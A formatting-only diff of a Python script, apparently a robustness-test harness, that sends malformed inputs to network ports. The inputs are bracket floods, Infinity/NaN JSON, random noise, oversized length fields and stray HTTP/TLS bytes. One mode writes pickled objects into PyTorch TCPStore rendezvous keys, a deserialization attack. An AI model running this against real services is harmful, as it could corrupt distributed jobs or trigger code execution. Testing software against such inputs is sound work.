@@ -35,11 +35,26 @@ class Payload:
 
 WORDS: dict[str, Callable[[str], list[bytes]]] = {
     "brackets": lambda proof: [b"[" * 4000, b"[" * 65000],
-    "infinity": lambda proof: [b'{"token": "x", "node": Infinity}', b'{"token": "", "node": 1e999}', b"NaN"],
+    "infinity": lambda proof: [
+        b'{"token": "x", "node": Infinity}',
+        b'{"token": "", "node": 1e999}',
+        b"NaN",
+    ],
     "noise": lambda proof: [os.urandom(size) for size in (1, 8, 64, 1400, 9000)],
-    "lengths": lambda proof: [b"\xff" * 8, b"\x7f" + b"\xff" * 15, b"\x00" * 64, (1 << 62).to_bytes(8, "little") * 4],
-    "http": lambda proof: [b"GET / HTTP/1.1\r\nHost: stash\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"],
-    "pickles": lambda proof: [pickle.dumps(Payload(proof)), b"\x00" * 8 + pickle.dumps(Payload(proof))],
+    "lengths": lambda proof: [
+        b"\xff" * 8,
+        b"\x7f" + b"\xff" * 15,
+        b"\x00" * 64,
+        (1 << 62).to_bytes(8, "little") * 4,
+    ],
+    "http": lambda proof: [
+        b"GET / HTTP/1.1\r\nHost: stash\r\n\r\n",
+        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
+    ],
+    "pickles": lambda proof: [
+        pickle.dumps(Payload(proof)),
+        b"\x00" * 8 + pickle.dumps(Payload(proof)),
+    ],
     "silence": lambda proof: [b""],
 }
 
@@ -50,7 +65,9 @@ def say(target: Target, words: list[bytes], hold: bool) -> int:
     attempts = 0
     for word in words:
         with contextlib.suppress(OSError):
-            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
+            made = socket.socket(
+                socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM
+            )
             made.settimeout(1.0)
             made.connect((host, port))
             attempts += 1
@@ -75,7 +92,9 @@ def put_pickles(target: Target, proof: str) -> int:
         socket.create_connection((host, port), timeout=1.0).close()
         state = base64.b64encode(pickle.dumps(Payload(proof))).decode()
         with contextlib.suppress(RuntimeError, ValueError):
-            store: Any = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False)
+            store: Any = TCPStore(
+                host, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False
+            )
             keys = {f"torch.rendezvous.{name}" for name in GUESSES} | set(_rendezvous(store))
             for key in keys:
                 store.set(key, state)
@@ -96,7 +115,10 @@ def main() -> None:
     parser.add_argument("--seconds", type=float, default=5.0)
     parser.add_argument("targets", nargs="*")
     args = parser.parse_args()
-    targets = [(*place.rpartition("/")[0].rsplit(":", 1), place.rpartition("/")[2]) for place in args.targets]
+    targets = [
+        (*place.rpartition("/")[0].rsplit(":", 1), place.rpartition("/")[2])
+        for place in args.targets
+    ]
     attempts, end = 0, time.monotonic() + args.seconds
     while time.monotonic() < end:
         for host, port, kind in targets:
@@ -104,7 +126,9 @@ def main() -> None:
             if args.attack == "unpickle":
                 attempts += put_pickles(target, args.proof)
             else:
-                attempts += say(target, WORDS[args.attack](args.proof), hold=args.attack == "silence")
+                attempts += say(
+                    target, WORDS[args.attack](args.proof), hold=args.attack == "silence"
+                )
         time.sleep(0.2)
     print(f"the stranger said {attempts} things to {len(targets)} ports", flush=True)
 
